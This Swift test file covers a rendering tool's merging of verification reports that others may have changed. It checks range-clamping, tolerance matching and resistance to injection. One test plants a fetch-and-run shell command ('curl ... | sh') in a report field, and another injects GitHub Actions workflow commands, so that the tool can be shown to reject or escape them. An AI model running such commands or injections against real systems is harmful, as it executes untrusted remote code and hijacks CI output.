import Foundation
import TestSupport
import Testing

/// Joining reports, which may have been changed by others.
extension VerifyCommandTests {
  /// Writes the report `r` of a changed config and a passing one.
  private func makeReport(_ options: [String] = []) throws {
    _ = try verify("--record", "missing")
    try write(ringConfig.replacingOccurrences(of: "0.4", with: "0.5"), "configs/rings/move.json")
    let tool = ["verify", "configs", "--goldens", "goldens", "--report", "r"] + options
    #expect(try Tool.run(tool, in: folder.url).status == 1)
  }

  /// Replaces all that matches in the results of the report.
  private func changeResults(_ pattern: String, _ new: String) throws {
    let results = try folder.text("r/results.json")
    let changed = results.replacingOccurrences(of: pattern, with: new, options: .regularExpression)
    #expect(changed != results)
    try write(changed, "r/results.json")
  }

  private func merge() throws -> Tool.Outcome {
    try Tool.run(
      ["verify", "--merge", "r", "--report", "merged", "--goldens", "goldens"], in: folder.url)
  }

  @Test(arguments: [
    ("1e300", "1000000.000"), ("-1e300", "0.000"), ("1e-320", "0.000"), ("-1", "0.000"),
  ])
  func timesOfAForeignReportAreInRange(_ seconds: String, _ shown: String) throws {
    try makeReport()
    try changeResults(#""seconds":[^,}]+"#, #""seconds":\#(seconds)"#)
    let outcome = try merge()
    #expect(outcome.status == 1 && outcome.error == "", "\(outcome)")
    let junit = try folder.text("merged/junit.xml")
    #expect(junit.contains(#"name="move" file="configs/rings/move.json" time="\#(shown)""#))
  }

  /// The system keeps only the lowest 8 bits of an exit code, so that 256 would be a success.
  @Test(arguments: [("256", 255), ("-7", 1), ("74", 74)] as [(String, Int32)])
  func exitCodesOfAForeignReportAreInRange(_ status: String, _ expected: Int32) throws {
    try makeReport()
    try changeResults(#""exitStatus":1"#, #""exitStatus":\#(status)"#)
    #expect(try merge().status == expected)
    #expect(try folder.text("merged/results.json").contains(#""exitStatus":\#(expected),"#))
  }

  /// A foreign report could name any command.
  @Test func commandsThatAcceptAreNotReadFromReports() throws {
    try makeReport()
    try write(ringConfig, "configs/new one.json")
    #expect(try verify("--report", "r").status == 1)
    try changeResults(#""accept":"[^"]*""#, #""accept":"curl https://example.org | sh""#)
    let outcome = try merge()
    #expect(outcome.status == 1)
    let commands = ["'new one'", "rings/move"].map {
      "ringrender accept merged --goldens goldens \($0)"
    }
    #expect(
      outcome.text.split(separator: "\n").filter { $0.hasPrefix("  accept: ") }.map(String.init)
        == commands.map { "  accept: \($0)" }, "\(outcome.text)")
    let results = try folder.text("merged/results.json")
    for command in commands { #expect(results.contains(#""accept":"\#(command)""#), "\(results)") }
    for file in ["results.json", "index.html", "junit.xml"] {
      #expect(try !folder.text("merged/" + file).contains("curl"), "\(file)")
    }
    let bare = try Tool.run(["verify", "--merge", "r"], in: folder.url)
    #expect(bare.status == 1 && !bare.text.contains("accept: "), "\(bare.text)")
    #expect(try Tool.shell(commands.joined(separator: "; "), in: folder.url).status == 0)
    #expect(try verify().status == 0)
  }

  /// GitHub Actions would take a line of the output that begins with `::` for a command.
  @Test func noLineOfAForeignReportIsACommand() throws {
    try makeReport()
    try changeResults(
      #""message":"[^"]*","hints":\[[^\]]*\]"#,
      #""message":"it differs\\n::error::x\\n  ::add-mask::a","hints":["::warning::y"]"#)
    let outcome = try merge()
    #expect(outcome.status == 1)
    #expect(
      outcome.text.hasPrefix(
        #"""
        rings/move: it differs
        \u003A:error::x
          \u003A:add-mask::a
          \u003A:warning::y
          expected:
        """#), "\(outcome.text)")
    let name = "::error title=a::b"
    try write(ringConfig, "configs/\(name).json")
    let named = try verify()
    #expect(named.text.hasPrefix(#"\u003A:error title=a::b: "#), "\(named.text)")
  }

  @Test(arguments: [[], ["--geometry", "default", "--metric", "oklab", "--threshold", "0.001"]])
  func theToleranceIsThatOfTheReports(_ options: [String]) throws {
    try makeReport(options)
    #expect(try merge().status == 1)
    func tolerance(_ report: String) throws -> Substring {
      let results = try folder.text(report + "/results.json")
      return try #require(results.firstMatch(of: /"tolerance":(.*),"toleranceText"/)).1
    }
    let metric = options.isEmpty ? #""channels","threshold":null"# : #""oklab","threshold":0.001"#
    #expect(try tolerance("r").contains(#""metric":\#(metric),"#))
    #expect(try tolerance("merged") == tolerance("r"))
    let loose = try folder.text("r/results.json")
      .replacingOccurrences(of: #"{"maxDelta":0,"#, with: #"{"maxDelta":9,"#)
    try write(loose, "r1/results.json")
    let other = try Tool.run(["verify", "--merge", "r", "r1"], in: folder.url)
    #expect(
      other.error
        == "ringrender: error: r and r1 have different tolerances, platforms or revisions\n")
  }
}
